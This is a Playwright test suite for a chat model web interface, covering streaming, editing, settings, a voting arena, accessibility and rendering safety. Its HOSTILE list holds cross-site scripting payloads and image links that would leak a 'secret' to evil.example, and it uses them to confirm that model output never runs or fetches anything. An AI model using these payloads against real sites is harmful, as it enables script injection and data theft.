"""The page in a browser, used as people use it: nothing foreign is asked, nothing that a model writes runs."""

import json
import re
import shutil
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from served_page import WAIT, Page, eventually, saying

from chatwright.data import source
from chatwright.generate.sampling import Sampling
from chatwright.serve.auth import Keys
from chatwright.serve.server import Door
from chatwright.text.records import Preference

LONG = "word " * 600
MARKDOWN = """# A title
Some **bold**, *leaning*, ~~gone~~ and `code` with a [link](https://example.org/a_b).

1. first
2. second
   - inner

> quoted

| a | b |
|---|---|
| 1 | 2 |

```python
def area(r):  # of a circle
    return 3.14 * r ** 2
```
"""
HOSTILE = [
    "<script>window.owned = 1</script>",
    '<img src=x onerror="window.owned = 2">',
    "[click](javascript:window.owned=3) [data](data:text/html,<script>window.owned=4</script>)",
    "[spaced]( java\\tscript:window.owned=5) <javascript:window.owned=6> [v](vbscript:x)",
    "![picture](http://evil.example/?q=secret) [![inner](http://evil.example/i)](http://evil.example/o)",
    '<svg onload="window.owned = 7"><a xlink:href="javascript:window.owned=8">x</a></svg>',
    '```mermaid\ngraph TD; A["<img src=x onerror=window.owned=9>"] --> B\n```',
    '```html"><img src=x onerror=window.owned=10>\n<iframe src="javascript:window.owned=11"></iframe>\n```',
    '<style>@import "http://evil.example/s.css";</style><link rel=stylesheet href=http://evil.example/t.css>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">',
    "<form action=http://evil.example/><button>go</button></form><iframe src=http://evil.example/></iframe>",
    "| <b onmouseover=window.owned=12>x</b> | [y](javascript:window.owned=13) |\n|---|---|\n"
    "| ![z](//evil.example/z) | &lt;script&gt; |",
    "# <script>window.owned = 14</script>\n> - > ![deep](http://evil.example/deep)",
    'https://evil.example/"onmouseover=window.owned=15 http://evil.example/<script>',
]


DAMAGED = [
    "no json",
    "[]",
    '"x"',
    "null",
    '{"turns": {"a": 1}, "chosen": 3, "sampling": 5, "arena": []}',
    '{"turns": [null, {"user": 1}, {"user": "u", "answers": {"bot": {"text": 5, "state": {}}}}], "mode": "x"}',
]
# what is shown does not write over the state when the page goes
LEAVE_AS = "(state) => { localStorage.setItem('chatwright', state); Storage.prototype.setItem = () => {}; }"
ENDLESS = [
    "[a" * 20000,
    "*a" * 10000,
    "`" * 9999 + "a" + "``` " * 3000,
    "> " * 5000 + "a",
    "- " * 5000 + "a",
    "| a " * 40 + "\n|---|",
    "<a" * 20000,
    "![a" * 9000,
    "https://a" * 3000,
    "_ _a" * 9000,
]


@dataclass
class Watched:
    """A page in a context of its own. Afterwards: nothing ran, nothing foreign was asked, nothing complained."""

    page: Any
    served: Page
    asked: list[str] = field(default_factory=list)
    said: list[str] = field(default_factory=list)

    def ask(self, text: str) -> None:
        self.page.fill("#message", text)
        self.page.press("#message", "Enter")
        self.done()

    def done(self) -> None:
        self.page.wait_for_selector("#send", state="visible")

    def until(self, holds: str) -> None:
        """Waits for an expression; the policy lets nothing but the debugger evaluate one."""
        end = time.monotonic() + WAIT
        while not self.page.evaluate(holds):
            assert time.monotonic() < end, holds
            self.page.wait_for_timeout(10)

    def answers(self) -> list[str]:
        return list(self.page.locator(".answer .body:visible").all_inner_texts())

    def facts(self, name: str) -> list[str]:
        return list(self.page.locator(f".answer .{name}:visible").all_inner_texts())


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed, so no browser can be driven")
    names = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
    program = next((path for path in map(shutil.which, names) if path), None)
    if program is None:
        pytest.skip("there is no Chromium on this machine to open the page in")
    with api.sync_playwright() as playwright:
        quiet = ["no-first-run", "disable-background-networking", "disable-component-update", "disable-sync"]
        args = [f"--{name}" for name in ("no-sandbox", "disable-gpu", "disable-dev-shm-usage", "disable-quic", *quiet)]
        opened = playwright.chromium.launch(executable_path=program, args=args)
        yield opened
        opened.close()


Opens = Callable[..., Watched]


@pytest.fixture
def opens(browser: Any, tmp_path: Path) -> Iterator[Opens]:
    """Serves models and opens their page; several pages of one test are in one browser context."""
    pages: list[Page] = []
    watched: list[Watched] = []

    def watch(served: Page, **settings: Any) -> Watched:
        context = browser.new_context(**{"viewport": {"width": 1200, "height": 900}, **settings})
        one = Watched(context.new_page(), served)
        one.page.set_default_timeout(60_000)
        one.page.on("request", lambda request: one.asked.append(request.url))
        one.page.on("console", lambda line: one.said.append(line.text) if line.type in ("error", "warning") else None)
        one.page.on("pageerror", lambda error: one.said.append(str(error)))
        one.page.goto(served.url)
        watched.append(one)
        return one

    def opened(
        *, door: Door | None = None, hold: threading.Event | None = None, **models: Any
    ) -> Callable[..., Watched]:
        served = Page(models, tmp_path / "votes-preferences.jsonl", door=door, hold=hold).__enter__()
        pages.append(served)
        return lambda **settings: watch(served, **settings)

    yield lambda *, context=None, door=None, hold=None, **models: opened(door=door, hold=hold, **models)(
        **(context or {})
    )
    for one in watched:
        assert one.page.evaluate("window.owned === undefined")
        assert [url for url in one.asked if not url.startswith((one.served.url + "/", "blob:" + one.served.url))] == []
        assert one.said == []
        one.page.context.close()
    for served in pages:
        served.__exit__(None, None, None)


# ---- one model


def test_an_answer_streams_in_as_markdown_with_coloured_code_that_can_be_copied(opens: Opens) -> None:
    one = opens(bot=saying([MARKDOWN]), context={"permissions": ["clipboard-read", "clipboard-write"]})
    one.ask("Show me")
    body = one.page.locator(".answer .body")
    for tag, text in {
        "h3": "A title",
        "strong": "bold",
        "em": "leaning",
        "del": "gone",
        "blockquote": "quoted",
    }.items():
        assert body.locator(tag).inner_text() == text
    assert body.locator("ol > li").count() == 2
    assert body.locator("ol ul li").inner_text() == "inner"
    assert body.locator("td").all_inner_texts() == ["1", "2"]
    link = body.locator("a")
    assert link.get_attribute("href") == "https://example.org/a_b"
    assert "noopener" in link.get_attribute("rel")
    assert body.locator(".code-word").all_inner_texts() == ["def", "return"]
    assert body.locator(".code-note").inner_text() == "# of a circle"
    assert body.locator(".code-call").inner_text() == "area"
    colours = body.locator(".code span[class^=code-]").evaluate_all(
        "(all) => all.map((one) => getComputedStyle(one).color)"
    )
    assert len(set(colours)) >= 4
    one.page.click(".copy-code")
    one.until("document.querySelector('.copy-code').textContent === 'Copied'")
    copied = one.page.evaluate("navigator.clipboard.readText()")
    assert copied == "def area(r):  # of a circle\n    return 3.14 * r ** 2"


def test_what_is_written_is_seen_before_it_is_whole_and_stopping_frees_the_place_and_keeps_the_text(
    opens: Opens,
) -> None:
    one = opens(bot=saying([LONG, "again"], pause=0.005))
    one.page.fill("#message", "Talk")
    one.page.press("#message", "Enter")
    one.until("document.querySelector('.answer .body').innerText.length > 40")
    assert one.served.figures().active == 1
    one.page.keyboard.press("Escape")
    one.done()
    eventually(lambda: one.served.figures().active == 0)
    assert one.served.figures().cancelled == 1
    assert "stopped" in one.page.inner_text(".facts")
    (kept,) = one.answers()
    assert LONG.startswith(kept[:20])
    assert len(kept) < len(LONG) / 2
    one.ask("And now")
    assert one.answers()[1] == "again"
    assert kept[:20] in one.served.prompts("bot")[1]


def test_the_button_stops_as_well_and_the_next_answer_can_be_asked_for(opens: Opens) -> None:
    one = opens(bot=saying([LONG, "fine"], pause=0.005))
    one.page.fill("#message", "Talk")
    one.page.click("#send")
    one.until("document.querySelector('.answer .body').innerText.length > 10")
    one.page.click("#stop")
    one.done()
    eventually(lambda: one.served.figures().active == 0)
    one.page.click("text=Regenerate")
    one.done()
    assert one.answers() == ["fine"]
    assert one.page.locator(".user").count() == 1


def test_enter_sends_shift_enter_begins_a_line_and_the_arrow_edits_what_was_said(opens: Opens) -> None:
    one = opens(bot=saying(["one", "two", "three"]))
    one.page.focus("#message")
    one.page.keyboard.type("first")
    one.page.keyboard.press("Shift+Enter")
    one.page.keyboard.type("second")
    one.page.keyboard.press("Enter")
    one.done()
    assert one.page.inner_text(".user .body") == "first\nsecond"
    assert one.page.input_value("#message") == ""
    one.page.keyboard.press("ArrowUp")
    assert one.page.evaluate("document.activeElement.value") == "first\nsecond"
    one.page.keyboard.press("Escape")
    assert one.page.locator(".edit").count() == 0
    one.page.keyboard.press("ArrowUp")
    one.page.keyboard.press("Control+A")
    one.page.keyboard.type("other")
    one.page.keyboard.press("Enter")
    one.done()
    assert one.answers() == ["two"]
    assert one.page.locator(".user .body").all_inner_texts() == ["other"]
    assert "first" not in one.served.prompts("bot")[1]


def test_an_edit_of_an_earlier_turn_leaves_out_what_came_after_it_and_a_turn_can_be_deleted(opens: Opens) -> None:
    one = opens(bot=saying(["one", "two", "three", "four"]))
    one.ask("a?")
    one.ask("b?")
    one.page.click("text=Edit >> nth=0")
    one.page.fill(".edit", "c?")
    one.page.click("text=Send again")
    one.done()
    assert one.answers() == ["three"]
    one.ask("d?")
    one.page.click("text=Delete >> nth=0")
    assert one.page.locator(".user .body").all_inner_texts() == ["d?"]
    assert one.answers() == ["four"]


def test_the_system_prompt_and_the_settings_are_what_the_model_is_given(opens: Opens) -> None:
    one = opens(bot=saying(["abcdefghij"]))
    one.page.click("#settings")
    one.page.fill("#system", "Be a pirate.")
    one.page.fill("#knob-max_tokens", "4")
    one.page.fill("#knob-temperature", "99")
    one.page.press("#knob-temperature", "Tab")
    assert one.page.input_value("#knob-temperature") == "2"
    bodies: list[Any] = []
    one.page.on("request", lambda request: bodies.append(request.post_data_json) if request.method == "POST" else None)
    one.ask("Hello")
    assert one.answers() == ["abcd"]
    assert "cut at the limit" in one.page.inner_text(".facts")
    assert "system\nBe a pirate." in one.served.prompts("bot")[0]
    assert {"temperature": 2, "top_p": 1, "top_k": 0, "min_p": 0, "repetition_penalty": 1}.items() <= bodies[0].items()


def test_tokens_are_picked_as_in_the_terminal_until_somebody_says_otherwise(opens: Opens) -> None:
    one = opens(bot=saying(["x"]))
    one.page.wait_for_selector("body[data-ready]")
    one.page.click("#settings")
    for name in ("temperature", "top_p", "top_k", "min_p", "repetition_penalty", "max_tokens"):
        assert float(one.page.input_value(f"#knob-{name}")) == vars(Sampling())[name]
    assert one.page.inner_text("#picked") == "temperature 0"
    one.page.fill("#knob-top_k", "40")
    one.page.press("#knob-top_k", "Tab")
    assert one.page.inner_text("#picked") == "temperature 0 · top_k 40"
    one.page.click("#reset")
    assert one.page.inner_text("#picked") == "temperature 0"


def test_the_settings_are_in_sight_wherever_in_a_long_conversation_they_are_asked_for(opens: Opens) -> None:
    one = opens(bot=saying(["line\n\n" * 100]))
    one.page.click("#settings")
    one.page.fill("#knob-max_tokens", "2000")
    one.page.click("#settings")
    one.ask("Talk")
    one.page.evaluate("scrollTo(0, document.documentElement.scrollHeight)")
    one.page.evaluate("document.getElementById('settings').click()")  # the debugger's click would scroll to it first
    box = one.page.locator("#system").bounding_box()
    assert 0 < box["y"] < 600


def test_before_anything_is_said_a_question_is_offered(opens: Opens) -> None:
    one = opens(bot=saying(["Paris."]))
    one.page.wait_for_selector("body[data-ready]")
    assert "bot answers." in one.page.inner_text(".empty")
    one.page.click(".prompts button >> nth=0")
    one.done()
    assert one.page.inner_text(".user .body") == "What is the capital of France?"
    assert one.answers() == ["Paris."]


def test_a_reload_finds_everything_as_it_was_also_an_answer_that_was_being_written(opens: Opens) -> None:
    one = opens(bot=saying(["one", LONG], pause=0.005))
    one.page.click("#settings")
    one.page.fill("#system", "Be kind.")
    one.page.fill("#knob-seed", "7")
    one.ask("a?")
    one.page.fill("#message", "b?")
    one.page.press("#message", "Enter")
    one.until("document.querySelectorAll('.answer .body')[1].innerText.length > 30")
    one.page.reload()
    one.page.wait_for_selector("body[data-ready]")
    eventually(lambda: one.served.figures().active == 0)
    first, second = one.answers()
    assert first == "one"
    assert LONG.startswith(second[:20])
    assert "stopped" in one.page.locator(".facts").all_inner_texts()[1]
    assert one.page.input_value("#system") == "Be kind."
    assert one.page.input_value("#knob-seed") == "7"
    one.page.fill("#message", "a draft")
    one.page.reload()
    one.page.wait_for_selector("body[data-ready]")
    assert one.page.input_value("#message") == "a draft"


def test_an_answer_that_a_browser_died_over_is_there_as_far_as_it_was_kept(opens: Opens) -> None:
    one = opens(bot=saying(["whole"]))
    turn = {"user": "a?", "answers": {"bot": {"text": "hal", "state": "running"}}}
    one.page.evaluate(LEAVE_AS, json.dumps({"turns": [turn]}))
    one.page.reload()
    one.page.wait_for_selector("body[data-ready]")
    assert one.answers() == ["hal"]
    assert "stopped" in one.page.inner_text(".facts")
    one.page.click("text=Regenerate")
    one.done()
    assert one.answers() == ["whole"]


def test_a_state_that_is_damaged_or_of_another_page_does_no_harm(opens: Opens) -> None:
    one = opens(bot=saying(["fine"]))
    for state in DAMAGED:
        one.page.evaluate(LEAVE_AS, state)
        one.page.reload()
        one.page.wait_for_selector("body[data-ready]")
    one.page.evaluate("localStorage.clear(); Storage.prototype.setItem = () => {}")
    one.page.reload()
    one.page.wait_for_selector("body[data-ready]")
    one.ask("Hello")
    assert one.answers() == ["fine"]


def test_the_window_that_is_used_is_shown_and_what_no_longer_fits_is_said(opens: Opens) -> None:
    one = opens(bot=saying(["x" * 60] * 3, window=200))
    one.page.click("#settings")
    one.page.fill("#knob-max_tokens", "60")
    one.ask("a?")
    found = re.fullmatch(r"(\d+) of 200 tokens", one.page.inner_text("#window"))
    assert found
    assert 60 < int(found[1]) < 130
    one.ask("b?")
    one.ask("c?")
    assert "oldest messages left out" in one.page.locator(".facts").all_inner_texts()[2]


def test_a_conversation_is_saved_as_a_file_that_this_page_and_the_readers_of_data_take(
    opens: Opens, tmp_path: Path
) -> None:
    one = opens(bot=saying(["one", "two"]))
    one.page.click("#settings")
    one.page.fill("#system", "Be kind.")
    one.ask("a?")
    one.ask("b?")
    with one.page.expect_download() as download:
        one.page.click("#export")
    path = tmp_path / "conversation.json"
    download.value.save_as(path)
    saved = json.loads(path.read_text(encoding="utf-8"))
    said = [(m["role"], m["content"]) for m in saved["messages"]]
    assert said == [("system", "Be kind."), ("user", "a?"), ("assistant", "one"), ("user", "b?"), ("assistant", "two")]
    row = tmp_path / "row.jsonl"
    row.write_text(json.dumps({"messages": saved["messages"]}) + "\n", encoding="utf-8")
    assert len(source.read(str(row), kind="conversations").records) == 1
    one.page.click("#new")
    assert one.page.locator(".turn").count() == 0
    one.page.set_input_files("#file", path)
    one.page.wait_for_selector(".turn")
    assert one.answers() == ["one", "two"]
    plain = tmp_path / "plain.json"
    plain.write_text(
        json.dumps({"messages": [{"role": "user", "content": "q"}, {"role": "assistant", "content": "w"}]})
    )
    one.page.set_input_files("#file", plain)
    one.until("document.querySelectorAll('.turn').length === 1")
    assert one.answers() == ["w"]
    for contents in ("oops", "[]", '{"messages": []}', '{"messages": 5}', "null"):
        plain.write_text(contents)
        one.page.set_input_files("#file", plain)
        one.until("/is no JSON|holds no conversation/.test(document.getElementById('status').innerText)")
        assert one.answers() == ["w"]
        one.page.evaluate("document.getElementById('status').textContent = ''")


def test_what_is_taken_away_comes_back_by_undo(opens: Opens, tmp_path: Path) -> None:
    one = opens(bot=saying(["one", "two", "three"]))
    one.ask("a?")
    one.ask("b?")
    other = tmp_path / "other.json"
    other.write_text(json.dumps({"messages": [{"role": "user", "content": "q"}], "system": "Be kind."}))
    for take in (
        lambda: one.page.click("#new"),
        lambda: one.page.click("text=Delete >> nth=0"),
        lambda: one.page.set_input_files("#file", other),
    ):
        take()
        one.until("!document.getElementById('undo').hidden")
        assert one.answers() != ["one", "two"]
        one.page.click("#undo")
        assert one.answers() == ["one", "two"]
        assert one.page.input_value("#system") == ""
        assert not one.page.is_visible("#undo")
    one.page.click("text=Edit >> nth=0")
    one.page.fill(".edit", "c?")
    one.page.press(".edit", "Enter")
    one.done()
    assert one.answers() == ["three"]
    one.page.click("#undo")
    assert one.answers() == ["one", "two"]


def test_another_answer_that_is_the_same_is_said_and_one_that_does_not_come_replaces_nothing(opens: Opens) -> None:
    one = opens(bot=saying(["one", "one"]))
    one.ask("a?")
    one.page.click("text=Regenerate")
    one.done()
    one.until("document.getElementById('status').innerText.includes('temperature 0 always takes')")
    one.served.server.stop()
    one.served.server.stop()
    one.served.thread.join(20)
    one.page.click("text=Regenerate")
    one.done()
    one.until("document.getElementById('status').innerText.includes('is it still running')")
    assert one.answers() == ["one"]
    one.said[:] = [line for line in one.said if "ERR_" not in line]


def test_two_tabs_of_one_browser_show_the_same_conversation(opens: Opens) -> None:
    one = opens(bot=saying(["one", "two"]))
    other = one.page.context.new_page()
    other.goto(one.served.url)
    other.wait_for_selector("body[data-ready]")
    one.ask("a?")
    other.wait_for_selector(".answer[data-state=done]")
    other.fill("#message", "b?")
    other.press("#message", "Enter")
    one.until("document.querySelectorAll('.answer[data-state=done]').length === 2")
    assert one.answers() == ["one", "two"]


# ---- what a model writes


def test_nothing_that_a_model_writes_runs_or_fetches(opens: Opens) -> None:
    one = opens(bot=saying([*HOSTILE, "\n\n".join(HOSTILE)]))
    one.page.click("#settings")
    one.page.fill("#knob-max_tokens", "4000")
    for number in range(len(HOSTILE) + 1):
        one.ask(f"{number} <img src=x onerror='window.owned = 99'>")
    log = one.page.locator("#log")
    assert log.locator("img, svg, script, iframe, style, link, meta, base, form, object, embed").count() == 0
    handlers = "(all) => all.flatMap((one) => [...one.attributes]).filter((one) => one.name.startsWith('on')).length"
    assert log.locator("*").evaluate_all(handlers) == 0
    links = log.locator("a").evaluate_all("(all) => all.map((one) => one.href)")
    assert links
    assert all(re.match(r"https?://", link) for link in links)
    text = log.inner_text()
    for piece in (
        "<script>window.owned = 1</script>",
        '<img src=x onerror="window.owned = 2">',
        "javascript:window.owned=3",
    ):
        assert piece in text
    wake = "['mouseover', 'load', 'error', 'click'].forEach((name) => one.dispatchEvent(new Event(name)))"
    log.locator("*:not(button)").evaluate_all(f"(all) => all.forEach((one) => {wake})")
    one.page.wait_for_timeout(300)


def test_the_policy_holds_where_the_page_itself_would_be_wrong(opens: Opens) -> None:
    one = opens(bot=saying([]))
    tried = one.page.evaluate("""async () => {
      const broken = [];
      document.addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
      let refused = "";
      try { document.body.innerHTML = "<b>x</b>"; } catch (error) { refused = error.name; }
      const picture = document.createElement("img");
      picture.src = "http://127.0.0.2:9/?q=secret";
      document.body.append(picture);
      const named = document.createElement("b");
      try { named.setAttribute("onclick", "window.owned = 20"); } catch { broken.push("script-src-attr"); }
      document.body.append(named);
      named.click();
      await fetch("http://127.0.0.2:9/").catch(() => {});
      await new Promise((resolve) => setTimeout(resolve, 200));
      return { refused, broken };
    }""")
    assert tried["refused"] == "TypeError"
    assert {"img-src", "script-src-attr", "connect-src"} <= set(tried["broken"])
    assert [text for text in one.said if "127.0.0.2" not in text and "rusted" not in text and "nline" not in text] == []
    one.said.clear()
    one.asked[:] = [url for url in one.asked if "127.0.0.2" not in url]


@pytest.mark.parametrize("text", ENDLESS, ids=range(len(ENDLESS)))
def test_marks_without_end_lose_no_letter_and_no_stack(opens: Opens, text: str) -> None:
    one = opens(bot=saying([]))
    shown = one.page.evaluate(
        """async (text) => {
          const { markdown } = await import("/markdown.js");
          const place = document.createElement("div");
          place.append(...markdown(text, () => {}));
          return place.textContent;
        }""",
        text,
    )
    assert shown.count("a") == text.count("a")


def test_what_is_written_from_right_to_left_is_laid_out_so(opens: Opens) -> None:
    one = opens(bot=saying(["مرحبا\n\n> اقتباس\n\n```\nx = 1\n```"]))
    one.ask("?")
    quote = one.page.locator(".body blockquote")
    assert quote.evaluate("(one) => getComputedStyle(one).borderRightWidth") == "3px"
    assert one.page.locator(".code").evaluate("(one) => getComputedStyle(one).direction") == "ltr"


# ---- several models


def test_several_models_answer_side_by_side_with_the_same_seed_and_their_pace(opens: Opens) -> None:
    one = opens(red=saying(["I am red."] * 3), blue=saying(["I am blue, and longer."] * 3))
    bodies: list[Any] = []
    one.page.on("request", lambda request: bodies.append(request.post_data_json) if request.method == "POST" else None)
    one.page.click("#settings")
    one.page.fill("#knob-temperature", "0.5")  # at 0 a seed changes nothing, and is not shown
    one.ask("Who?")
    assert one.page.locator(".answer h2").all_inner_texts() == ["red", "blue"]
    assert one.answers() == ["I am red.", "I am blue, and longer."]
    assert bodies[0]["seed"] == bodies[1]["seed"]
    assert one.facts("seed") == [f"seed {bodies[0]['seed']}"] * 2
    assert len(one.facts("first")) == 2
    boxes = [one.page.locator(".answer").nth(k).bounding_box() for k in range(2)]
    assert boxes[0]["y"] == boxes[1]["y"]
    assert boxes[0]["x"] + boxes[0]["width"] <= boxes[1]["x"]
    one.ask("And?")
    assert bodies[2]["seed"] == bodies[3]["seed"] != bodies[0]["seed"]
    assert "I am red." in one.served.prompts("red")[1]
    assert "I am blue" not in one.served.prompts("red")[1]
    one.page.click("#models button >> nth=1")
    one.ask("Now only one?")
    assert one.answers() == ["I am red."] * 3


def test_a_pace_is_shown_under_an_answer_that_took_time(opens: Opens) -> None:
    one = opens(red=saying(["a" * 60], pause=0.01), blue=saying(["b" * 60], pause=0.01))
    one.ask("Who?")
    speeds = [float(text.split()[0]) for text in one.facts("speed")]
    assert len(speeds) == 2
    assert all(0 < speed <= 101 for speed in speeds)  # each token pauses 10 ms or more
    assert [text.split(" ")[0] for text in one.page.locator(".facts").all_inner_texts()] == ["60", "60"]


def test_the_arena_hides_who_answers_until_the_vote_which_becomes_a_pair(opens: Opens) -> None:
    one = opens(red=saying(["I like it."] * 5), blue=saying(["I do not."] * 5))
    one.page.click("#to-arena")
    for number in range(3):
        one.ask("Well?")
        one.page.wait_for_selector(".votes")
        assert [text.lower() for text in one.page.locator("#arena .answer h2").all_inner_texts()] == ["left", "right"]
        hidden = one.page.inner_text("#arena .columns") + one.page.evaluate("localStorage.getItem('chatwright')")
        assert not re.search(r"(red|blue)[^\"]*\b(left|right)", hidden)
        assert not one.page.locator("#arena .facts").all_inner_texts()[0]
        texts = one.page.locator("#arena .body").all_inner_texts()[1:]
        one.page.click(".vote >> nth=0")
        one.page.wait_for_selector(".next")
        names = [text.split()[0] for text in one.page.locator("#arena .answer h2").all_inner_texts()]
        assert sorted(names) == ["blue", "red"]
        assert texts[names.index("red")] == "I like it."
        row = json.loads(one.served.votes.path.read_text(encoding="utf-8").splitlines()[number])
        assert row["chosen_model"] == names[0]
        one.page.click(".next")
    assert len(source.read(str(one.served.votes.path), kind="preferences").records) == 3
    pair = source.read(str(one.served.votes.path), kind="preferences").records[0]
    assert isinstance(pair, Preference)
    cells = one.page.locator(".standing td").all_inner_texts()
    assert (*cells[:2], cells[4]) == ("blue", "red", "3")
    assert re.fullmatch(r"\d+ % \(\d+ % to \d+ %\)", cells[2])


def test_a_round_survives_a_reload_and_a_tie_is_kept_apart(opens: Opens) -> None:
    one = opens(red=saying(["I like it."]), blue=saying(["I do not."]))
    one.page.click("#to-arena")
    one.ask("Well?")
    one.page.wait_for_selector(".votes")
    one.page.reload()
    one.page.wait_for_selector(".votes")
    one.page.click("[data-vote=tie]")
    one.page.wait_for_selector(".next")
    assert "Kept apart" in one.page.inner_text(".verdict")
    assert not one.served.votes.path.exists()
    assert json.loads(one.served.votes.others.read_text(encoding="utf-8"))["vote"] == "tie"


def test_a_round_that_the_server_forgot_is_said_and_can_be_asked_again(opens: Opens) -> None:
    one = opens(red=saying(["I like it."]), blue=saying(["I do not."]))
    answer = {"text": "x", "state": "done"}
    forgotten = {"prompt": "Well?", "round": "of-another-server", "left": answer, "right": answer}
    one.page.evaluate(LEAVE_AS, json.dumps({"mode": "arena", "arena": forgotten}))
    one.page.reload()
    one.page.click("[data-vote=left]")
    one.page.wait_for_selector(".next")
    assert "does not know this round any more" in one.page.inner_text(".verdict")
    assert one.page.locator(".vote").count() == 0
    one.page.click(".next")
    one.page.wait_for_selector(".votes")
    assert sorted(one.page.locator("#arena .answer .body").all_inner_texts()) == ["I do not.", "I like it."]
    one.said[:] = [line for line in one.said if "404" not in line]


def test_a_round_is_voted_on_by_the_keyboard_but_not_while_something_is_written(opens: Opens) -> None:
    one = opens(red=saying(["I like it."] * 2), blue=saying(["I do not."] * 2))
    one.page.click("#to-arena")
    one.ask("Well?")
    one.page.wait_for_selector(".votes")
    one.page.focus("#message")
    one.page.keyboard.type("a1")
    assert one.page.input_value("#message") == "a1"
    assert one.page.locator(".vote").count() == 4
    one.page.fill("#message", "")
    one.page.keyboard.press("2")
    one.page.wait_for_selector(".next")
    assert one.page.locator(".answer.won h2").inner_text().endswith("✓")
    assert one.page.locator("#arena .answer").nth(1).get_attribute("class") == "answer won"
    one.page.keyboard.press("Enter")
    assert one.page.evaluate("document.activeElement.id") == "message"


def test_the_arena_stops_both_answers_at_once(opens: Opens) -> None:
    one = opens(red=saying([LONG], pause=0.005), blue=saying([LONG], pause=0.005))
    one.page.click("#to-arena")
    one.page.fill("#message", "Well?")
    one.page.press("#message", "Enter")
    eventually(lambda: one.served.figures().active == 2)
    one.until("document.querySelectorAll('#arena .answer .body')[1].innerText.length > 5")
    one.page.keyboard.press("Escape")
    one.done()
    eventually(lambda: one.served.figures().active == 0)
    assert one.served.figures().cancelled == 2


# ---- how it looks, and for whom


def background(page: Any) -> int:
    colour = page.evaluate("getComputedStyle(document.body).backgroundColor")
    return sum(map(int, re.findall(r"\d+", colour)[:3]))


def test_it_is_dark_where_the_system_is_and_where_the_switch_says_so(opens: Opens) -> None:
    night = opens(bot=saying([]), context={"color_scheme": "dark"})
    assert background(night.page) < 120
    night.page.click("#theme")
    night.page.click("#theme")
    assert night.page.inner_text("#theme") == "Theme: light"
    assert background(night.page) > 700
    night.page.reload()
    night.page.wait_for_selector("body[data-ready]")
    assert background(night.page) > 700


def test_words_stand_out_from_what_is_behind_them_by_day_and_by_night(opens: Opens) -> None:
    one = opens(red=saying([MARKDOWN]), blue=saying([MARKDOWN]))
    one.ask("Show")
    for _ in range(3):
        low = one.page.evaluate(CONTRAST)
        assert low == []
        one.page.click("#theme")


CONTRAST = """() => {
  const numbers = (text) => text.match(/[\\d.]+/g).map(Number);
  const linear = (one) => one <= 0.04045 ? one / 12.92 : ((one + 0.055) / 1.055) ** 2.4;
  const light = ([r, g, b]) => 0.2126 * linear(r / 255) + 0.7152 * linear(g / 255) + 0.0722 * linear(b / 255);
  const behind = (one) => {
    for (; one; one = one.parentElement) {
      const colour = numbers(getComputedStyle(one).backgroundColor);
      if (colour.length === 3 || colour[3] > 0) return colour;
    }
    return [255, 255, 255];
  };
  const low = [];
  for (const one of document.querySelectorAll("body :not(.unseen, .skip, :disabled)")) {
    const own = [...one.childNodes].some((node) => node.nodeType === 3 && node.textContent.trim());
    if (!own || !one.checkVisibility()) continue;
    const both = [light(numbers(getComputedStyle(one).color)), light(behind(one))];
    if ((Math.max(...both) + 0.05) / (Math.min(...both) + 0.05) < 4.5) low.push(one.outerHTML.slice(0, 80));
  }
  return low;
}"""


def test_it_fits_a_telephone(opens: Opens) -> None:
    context = {"viewport": {"width": 360, "height": 740}, "has_touch": True}
    one = opens(red=saying([MARKDOWN + "x" * 500]), blue=saying(["y " * 100]), context=context)
    one.page.tap("#settings")
    assert one.page.evaluate("document.documentElement.scrollWidth") <= 360
    one.page.tap("#settings")
    one.ask("Show " + "z" * 300)
    assert one.page.evaluate("document.documentElement.scrollWidth") <= 360
    one.page.tap("#to-arena")
    assert one.page.evaluate("document.documentElement.scrollWidth") <= 360
    heights = one.page.locator("button:visible").evaluate_all(
        "(all) => all.map((one) => one.getBoundingClientRect().height)"
    )
    assert min(heights) >= 24
    assert one.page.locator("header").bounding_box()["height"] < 740 / 6, "the bars leave the screen to what is said"


NAMELESS = """() => [...document.querySelectorAll("button, input, textarea, meter, [role]:not(#status)")]
  .filter((one) => one.checkVisibility())
  .filter((one) => !one.textContent.trim() && !one.getAttribute("aria-label") && !one.labels?.length)
  .map((one) => one.outerHTML)"""


def test_everything_has_a_name_and_is_reached_by_the_keyboard_in_order(opens: Opens) -> None:
    one = opens(red=saying(["Hello."]), blue=saying(["Hi."]))
    assert one.page.evaluate("document.activeElement.id") == "message"
    one.page.click("#settings")
    one.ask("Hello")
    nameless = one.page.evaluate(NAMELESS)
    assert nameless == []
    assert one.page.get_attribute("#spoken", "aria-live") == "polite"
    assert one.page.text_content("#spoken") == "red answered: Hello.\nblue answered: Hi."
    one.page.focus(".skip")
    places = [("skip", "solid")]
    for _ in range(40):
        one.page.keyboard.press("Tab")
        places.append(
            one.page.evaluate("""() => { const one = document.activeElement;
          return [one.closest("header, #panel, main, footer")?.tagName ?? "", getComputedStyle(one).outlineStyle]; }""")
        )
        if places[-1][0] == "FOOTER":
            break
    order = [place for place, _ in places]
    assert list(dict.fromkeys(order)) == ["skip", "HEADER", "SECTION", "MAIN", "FOOTER"]
    assert {outline for _, outline in places} == {"solid"}


# ---- the server behind it


def test_the_page_waits_for_the_models_and_then_is_there(opens: Opens) -> None:
    hold = threading.Event()
    one = opens(bot=saying(["fine"]), hold=hold)
    one.until("document.getElementById('log').innerText.includes('being read')")
    one.said[:] = [line for line in one.said if "503" not in line]
    hold.set()
    one.page.wait_for_selector("body[data-ready]")
    one.ask("Hello")
    assert one.answers() == ["fine"]
    one.said[:] = [line for line in one.said if "503" not in line]


def test_the_page_asks_for_the_key_once_and_keeps_it_for_the_tab_alone(opens: Opens) -> None:
    one = opens(bot=saying(["fine"]), door=Door(Keys(["open-sesame"]), drain_seconds=0.0))
    for key, title in (("wrong", "wants a key"), ("open-sesame", "does not fit")):
        one.page.wait_for_selector("#door[open]")
        assert title in one.page.inner_text("#door-title")
        one.page.fill("#key", key)
        one.page.press("#key", "Enter")
    one.page.wait_for_selector("body[data-ready]")
    one.ask("Hello")
    assert one.answers() == ["fine"]
    one.page.reload()
    one.page.wait_for_selector("body[data-ready]")
    assert "open-sesame" not in one.page.evaluate("JSON.stringify(localStorage)")
